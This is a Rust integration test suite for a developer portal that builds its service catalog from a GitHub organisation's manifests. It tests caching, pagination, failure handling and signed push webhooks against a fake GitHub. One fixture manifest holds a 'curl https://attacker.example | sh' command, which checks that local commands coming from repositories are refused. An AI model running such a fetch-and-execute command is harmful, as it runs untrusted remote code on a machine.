//! The catalog read from a GitHub organisation's repositories, against the GitHub double: the
//! merge with the catalog folders, conditional requests, signed push webhooks, what a
//! repository may not declare, and failures that keep the previous catalog.

use std::path::PathBuf;

use domain::catalog::SourceReport;
use domain::catalog::{KubernetesPattern, Problem, ProductionNames, RuntimeTarget, ServiceQuery, TargetRule};
use domain::store::CatalogStore;
use github_double::{DoubleConfig, FakeRepo, FakeUser, GithubDouble};
use hmac::{Hmac, Mac};
use secrecy::SecretString;
use server::catalog_github::GithubSource;
use server::catalog_refresh::{CatalogRefresher, Outcome};
use server::config::GithubCatalogConfig;
use server::store::Store;
use sha2::Sha256;

use crate::support::{Engine, TestApp, TestDb, on_both_engines};

pub(crate) const ORG: &str = "acme";
pub(crate) const FILE: &str = "catalog-info.yaml";
const SECRET: &str = "webhook-secret-for-tests";

pub(crate) fn component(name: &str, title: &str) -> String {
    format!(
        "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: {name}\n  title: {title}\n\
         spec:\n  type: service\n  lifecycle: production\n  owner: team-a\n"
    )
}

/// The double with the catalog's account and an organisation of four repositories: two with
/// a manifest, one without, and an archived one whose manifest must not be read.
pub(crate) async fn organisation() -> (GithubDouble, String) {
    let bot = FakeUser { login: "catalog-bot".into(), id: 900, name: None, email: None, orgs: vec![ORG.into()], teams: vec![] };
    let github = GithubDouble::spawn(DoubleConfig::new(vec![bot])).await.expect("GitHub double starts");
    github.put_repository(ORG, FakeRepo::new("checkout").with_file(FILE, &component("checkout", "Checkout")));
    github.put_repository(ORG, FakeRepo::new("payments").with_file(FILE, &component("payments", "Payments")));
    github.put_repository(ORG, FakeRepo::new("website"));
    let mut legacy = FakeRepo::new("legacy").with_file(FILE, &component("legacy", "Legacy"));
    legacy.archived = true;
    github.put_repository(ORG, legacy);
    let token = github.mint_token("catalog-bot").expect("the bot exists");
    (github, token)
}

pub(crate) fn config(github: &GithubDouble, token: &str) -> GithubCatalogConfig {
    GithubCatalogConfig {
        org: ORG.into(),
        api_url: url::Url::parse(&github.base_url()).expect("url"),
        token: SecretString::from(token.to_owned()),
        webhook_secret: Some(SecretString::from(SECRET)),
        file: FILE.into(),
        // Tests refresh by hand.
        refresh_seconds: 0,
        // Each repository may name Deployments in the namespace named after it.
        targets: vec![TargetRule {
            repositories: vec!["*".into()],
            kubernetes: vec![KubernetesPattern { cluster: "default".into(), namespace: "{repository}".into(), deployment: "*".into() }],
            ecs: vec![],
        }],
    }
}

/// A catalog folder with the team every service names and one service of its own.
pub(crate) fn folder() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path().join("catalog");
    std::fs::create_dir_all(&root).expect("mkdir");
    let team = "apiVersion: backstage.io/v1alpha1\nkind: Group\nmetadata:\n  name: team-a\nspec:\n  type: team\n  children: []\n";
    std::fs::write(root.join("team.yaml"), format!("{team}---\n{}", component("ledger", "Ledger"))).expect("write");
    (dir, root)
}

pub(crate) fn refresher(store: &Store, paths: Vec<PathBuf>, config: &GithubCatalogConfig) -> CatalogRefresher {
    let github = GithubSource::new(config).expect("GitHub client");
    CatalogRefresher::new(store.clone(), paths, Some(github), ProductionNames::default())
}

pub(crate) async fn service_names(store: &Store) -> Vec<String> {
    let page = store.list_services(&ServiceQuery::default()).await.expect("services");
    page.items.into_iter().map(|service| service.name).collect()
}

pub(crate) async fn title(store: &Store, name: &str) -> Option<String> {
    store.service(name).await.expect("service").and_then(|detail| detail.service.title)
}

pub(crate) async fn problems(store: &Store) -> Vec<Problem> {
    store.problems().await.expect("problems")
}

async fn two_repositories_and_a_folder_make_one_catalog(engine: Engine) {
    let db = TestDb::new(engine).await;
    let store = db.store().await;
    let (github, token) = organisation().await;
    let (_dir, root) = folder();
    let catalog = refresher(&store, vec![root], &config(&github, &token));
    assert_eq!(catalog.load().await.expect("load"), Outcome::Replaced);
    assert_eq!(service_names(&store).await, ["checkout", "ledger", "payments"]);
    assert_eq!(problems(&store).await, []);
    let detail = store.service("checkout").await.expect("service").expect("checkout is stored");
    assert_eq!(detail.service.source.file, "checkout/catalog-info.yaml");
    assert_eq!(detail.owner.map(|team| team.name).as_deref(), Some("team-a"), "a repository's service finds the folder's team");
    let sources = catalog.sources();
    assert_eq!(sources.len(), 2, "{sources:?}");
    assert_eq!(sources[1].name, "GitHub organisation acme");
    assert_eq!(sources[1].repositories, Some(3), "the archived repository is not counted");
    assert!(sources.iter().all(|source| source.refreshed_at.is_some()), "{sources:?}");
}

async fn an_unchanged_organisation_is_checked_with_not_modified_answers(engine: Engine) {
    let db = TestDb::new(engine).await;
    let store = db.store().await;
    let (github, token) = organisation().await;
    let catalog = refresher(&store, vec![], &config(&github, &token));
    catalog.load().await.expect("load");
    let (requests, not_modified) = (github.repository_requests(), github.not_modified());
    assert_eq!(not_modified, 0);

    assert_eq!(catalog.refresh_github().await.expect("refresh"), Outcome::Unchanged, "the stored catalog is not rewritten");
    // The listing page and the three unarchived repositories' files...
    assert_eq!(github.repository_requests() - requests, 4);
    // ...all answered 304, which costs no rate limit, but for the repository without a
    // manifest: a 404 carries no ETag to ask with.
    assert_eq!(github.not_modified() - not_modified, 3);

    // A changed file is read again; the rest are still unchanged.
    assert!(github.put_file(ORG, "payments", FILE, &component("payments", "Payments v2")));
    assert_eq!(catalog.refresh_github().await.expect("refresh"), Outcome::Replaced);
    assert_eq!(title(&store, "payments").await.as_deref(), Some("Payments v2"));
    assert_eq!(github.not_modified() - not_modified, 3 + 2);
}

async fn a_listing_of_several_pages_is_followed_page_by_page(engine: Engine) {
    let db = TestDb::new(engine).await;
    let store = db.store().await;
    let (github, token) = organisation().await;
    // GitHub lists at most 100 repositories a page.
    for n in 0..120 {
        let name = format!("service-{n:03}");
        github.put_repository(ORG, FakeRepo::new(&name).with_file(FILE, &component(&name, "Generated")));
    }
    let catalog = refresher(&store, vec![], &config(&github, &token));
    catalog.load().await.expect("load");
    let page = store.list_services(&ServiceQuery { per_page: 1, ..ServiceQuery::default() }).await.expect("services");
    assert_eq!(page.total, 122, "two pages of repositories read");
    assert_eq!(catalog.sources()[0].repositories, Some(123));

    let (requests, not_modified) = (github.repository_requests(), github.not_modified());
    assert_eq!(catalog.refresh_github().await.expect("refresh"), Outcome::Unchanged);
    // Two listing pages and 123 files; every page and file asked with its ETag, all 304 but the
    // repository without a manifest.
    assert_eq!(github.repository_requests() - requests, 2 + 123);
    assert_eq!(github.not_modified() - not_modified, 2 + 122);
}

async fn a_local_environment_from_github_is_refused_with_a_problem(engine: Engine) {
    let db = TestDb::new(engine).await;
    let store = db.store().await;
    let (github, token) = organisation().await;
    let manifest = format!(
        "{}  environments:\n    - name: dev\n      local:\n        command: curl https://attacker.example | sh\n\
         \x20   - name: prod\n      kubernetes:\n        namespace: runner\n        deployment: runner\n",
        component("runner", "Runner")
    );
    github.put_repository(ORG, FakeRepo::new("runner").with_file(FILE, &manifest));
    let catalog = refresher(&store, vec![], &config(&github, &token));
    catalog.load().await.expect("load");

    let runner = store.service("runner").await.expect("service").expect("the service itself still loads").service;
    let environments: Vec<(&str, &RuntimeTarget)> = runner.environments.iter().map(|e| (e.name.as_str(), &e.target)).collect();
    assert!(matches!(environments.as_slice(), [("prod", RuntimeTarget::Kubernetes(_))]), "{environments:?}");
    let problems = problems_besides_the_missing_owner(&store).await;
    assert_eq!(problems.len(), 1, "{problems:?}");
    let problem = &problems[0];
    assert_eq!(
        (problem.file.as_str(), problem.line, problem.field.as_deref()),
        ("runner/catalog-info.yaml", Some(11), Some("spec.environments[0].local"))
    );
    assert!(problem.message.contains("`dev`") && problem.message.contains("local commands are only read from catalog folders"), "{}", problem.message);
    assert!(problem.message.contains("kubernetes") && problem.message.contains("ecs"), "{}", problem.message);
}

async fn a_malformed_manifest_is_a_problem_and_the_others_still_load(engine: Engine) {
    let db = TestDb::new(engine).await;
    let store = db.store().await;
    let (github, token) = organisation().await;
    let broken = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: broken\nspec:\n  type: service\n  lifecycle: production\n";
    github.put_repository(ORG, FakeRepo::new("broken").with_file(FILE, broken));
    let catalog = refresher(&store, vec![], &config(&github, &token));
    catalog.load().await.expect("load");

    assert_eq!(service_names(&store).await, ["checkout", "payments"]);
    let problems = problems_besides_the_missing_owner(&store).await;
    assert_eq!(problems.len(), 1, "{problems:?}");
    let problem = &problems[0];
    assert_eq!((problem.file.as_str(), problem.line, problem.field.as_deref()), ("broken/catalog-info.yaml", Some(5), Some("spec.owner")));
    assert_eq!(problem.message, "is required");
}

async fn github_failures_keep_the_previous_catalog(engine: Engine) {
    let db = TestDb::new(engine).await;
    let store = db.store().await;
    let (github, token) = organisation().await;
    let (_dir, root) = folder();
    let catalog = refresher(&store, vec![root], &config(&github, &token));
    catalog.load().await.expect("load");
    let refreshed = catalog.sources()[1].refreshed_at;

    // Rate-limited: the repositories as read before stay, with one problem saying why.
    // The limit resets at once, so the portal may ask again as soon as it is lifted.
    github.set_rate_limit_reset(std::time::Duration::ZERO);
    github.set_rate_limited(true);
    assert_eq!(catalog.refresh_github().await.expect("refresh"), Outcome::Replaced);
    assert_eq!(service_names(&store).await, ["checkout", "ledger", "payments"]);
    let problems_now = problems(&store).await;
    assert_eq!(problems_now.len(), 1, "{problems_now:?}");
    assert!(problems_now[0].message.starts_with("GitHub organisation acme could not be read: the GitHub rate limit is spent"), "{}", problems_now[0].message);
    assert_eq!(catalog.sources()[1].refreshed_at, refreshed, "a failed refresh is not a successful one");
    github.set_rate_limited(false);
    catalog.refresh_github().await.expect("refresh");
    assert_eq!(problems(&store).await, [], "the problem goes once GitHub answers again");

    // Unreachable: the same, and the folders are still read.
    let address = github.base_url().trim_start_matches("http://").to_owned();
    drop(github);
    while tokio::net::TcpStream::connect(&address).await.is_ok() {
        tokio::task::yield_now().await;
    }
    catalog.refresh_github().await.expect("refresh");
    assert_eq!(service_names(&store).await, ["checkout", "ledger", "payments"]);
    let problems_now = problems(&store).await;
    assert_eq!(problems_now.len(), 1, "{problems_now:?}");
    assert!(problems_now[0].message.contains("GitHub organisation acme could not be read: GitHub could not be reached"), "{}", problems_now[0].message);
    assert!(!problems_now[0].message.contains(&token));
}

async fn a_refused_token_is_one_problem_that_does_not_show_it(engine: Engine) {
    let db = TestDb::new(engine).await;
    let store = db.store().await;
    let (github, _token) = organisation().await;
    let wrong = "gho_not_a_token_github_issued";
    let catalog = refresher(&store, vec![], &config(&github, wrong));
    catalog.load().await.expect("the portal still starts");
    let problems = problems_besides_the_missing_owner(&store).await;
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(problems[0].file, ORG);
    let message = &problems[0].message;
    assert!(message.contains("refused the token (401: Bad credentials); check catalog.github.token"), "{message}");
    assert!(!problems[0].message.contains(wrong));
}

// Webhooks, through a running portal.

pub(crate) async fn portal(engine: Engine, github: &GithubDouble, token: &str) -> TestApp {
    let catalog = config(github, token);
    TestApp::spawn_configured(engine, |config| config.catalog.github = Some(catalog)).await
}

pub(crate) fn sign(body: &str) -> String {
    let mut mac = Hmac::<Sha256>::new_from_slice(SECRET.as_bytes()).expect("any key length");
    mac.update(body.as_bytes());
    format!("sha256={}", hex::encode(mac.finalize().into_bytes()))
}

fn push_event(repo: &str, branch: &str) -> String {
    serde_json::json!({
        "ref": format!("refs/heads/{branch}"),
        "before": "0000000000000000000000000000000000000000",
        "after": "1111111111111111111111111111111111111111",
        "repository": { "name": repo, "full_name": format!("{ORG}/{repo}"), "default_branch": "main", "archived": false },
        "pusher": { "name": "alice" },
    })
    .to_string()
}

pub(crate) async fn deliver(app: &TestApp, event: &str, body: &str, signature: Option<String>) -> u16 {
    let mut request = app
        .anonymous
        .post(app.url("/webhooks/github"))
        .header("content-type", "application/json")
        .header("x-github-event", event)
        .header("x-github-delivery", uuid::Uuid::new_v4().to_string())
        .body(body.to_owned());
    if let Some(signature) = signature {
        request = request.header("x-hub-signature-256", signature);
    }
    request.send().await.expect("delivery").status().as_u16()
}

async fn a_signed_push_to_the_default_branch_reads_the_repository_again(engine: Engine) {
    let (github, token) = organisation().await;
    let app = portal(engine, &github, &token).await;
    assert_eq!(title(&app.store, "checkout").await.as_deref(), Some("Checkout"));
    let ping = "{\"zen\":\"Keep it logically awesome.\"}";
    assert_eq!(deliver(&app, "ping", ping, Some(sign(ping))).await, 200);

    assert!(github.put_file(ORG, "checkout", FILE, &component("checkout", "Checkout v2")));
    let elsewhere = push_event("checkout", "feature");
    assert_eq!(deliver(&app, "push", &elsewhere, Some(sign(&elsewhere))).await, 202);
    assert_eq!(title(&app.store, "checkout").await.as_deref(), Some("Checkout"), "a push to another branch changes nothing");

    let requests = github.repository_requests();
    let push = push_event("checkout", "main");
    assert_eq!(deliver(&app, "push", &push, Some(sign(&push))).await, 202);
    assert_eq!(title(&app.store, "checkout").await.as_deref(), Some("Checkout v2"));
    assert_eq!(github.repository_requests() - requests, 1, "only the pushed repository is read");
}

async fn unsigned_and_wrongly_signed_deliveries_are_refused_and_counted(engine: Engine) {
    let (github, token) = organisation().await;
    let app = portal(engine, &github, &token).await;
    assert!(github.put_file(ORG, "checkout", FILE, &component("checkout", "Checkout v2")));
    let requests = github.repository_requests();
    let push = push_event("checkout", "main");

    assert_eq!(deliver(&app, "push", &push, None).await, 401);
    let signed_otherwise = {
        let mut mac = Hmac::<Sha256>::new_from_slice(b"another secret").expect("any key length");
        mac.update(push.as_bytes());
        format!("sha256={}", hex::encode(mac.finalize().into_bytes()))
    };
    assert_eq!(deliver(&app, "push", &push, Some(signed_otherwise)).await, 401);
    // A signature of another body: the body was altered on the way.
    assert_eq!(deliver(&app, "push", &push, Some(sign(&push_event("payments", "main")))).await, 401);
    assert_eq!(deliver(&app, "push", &push, Some("sha256=not-hex".into())).await, 401);

    assert_eq!(github.repository_requests(), requests, "nothing was read");
    assert_eq!(title(&app.store, "checkout").await.as_deref(), Some("Checkout"));
    let (status, html) = app.page("/catalog/problems").await;
    assert_eq!(status, 200);
    let sources = html.split("data-testid=\"catalog-sources\"").nth(1).expect("the sources panel");
    let cells = cells(sources);
    // Source, last refreshed, repositories, refused deliveries.
    assert_eq!(cells[0], "GitHub organisation acme", "{cells:?}");
    assert_eq!(cells[2..4], ["3", "4"], "three repositories, four refused deliveries: {cells:?}");

    let too_large = "x".repeat(1024 * 1024 + 1);
    assert_eq!(deliver(&app, "push", &too_large, Some(sign(&too_large))).await, 413);
}

/// The text of each table cell in `html`, in order, without markup.
fn cells(html: &str) -> Vec<String> {
    html.split("<td").skip(1).filter_map(|cell| cell.split_once('>')).map(|(_, rest)| text(rest.split("</td>").next().unwrap_or_default())).collect()
}

fn text(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in html.chars() {
        match c {
            '<' => in_tag = true,
            '>' => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    out.trim().to_owned()
}

on_both_engines!(
    two_repositories_and_a_folder_make_one_catalog,
    an_unchanged_organisation_is_checked_with_not_modified_answers,
    a_listing_of_several_pages_is_followed_page_by_page,
    a_local_environment_from_github_is_refused_with_a_problem,
    a_malformed_manifest_is_a_problem_and_the_others_still_load,
    github_failures_keep_the_previous_catalog,
    a_refused_token_is_one_problem_that_does_not_show_it,
    a_signed_push_to_the_default_branch_reads_the_repository_again,
    unsigned_and_wrongly_signed_deliveries_are_refused_and_counted,
);

/// The problems, less the references to `team-a`: the organisation's repositories name that
/// owner and none of them declares it, which is a problem of its own.
async fn problems_besides_the_missing_owner(store: &Store) -> Vec<Problem> {
    let missing = "`group:default/team-a` is not in the catalog";
    problems(store).await.into_iter().filter(|problem| !problem.message.starts_with(missing)).collect()
}
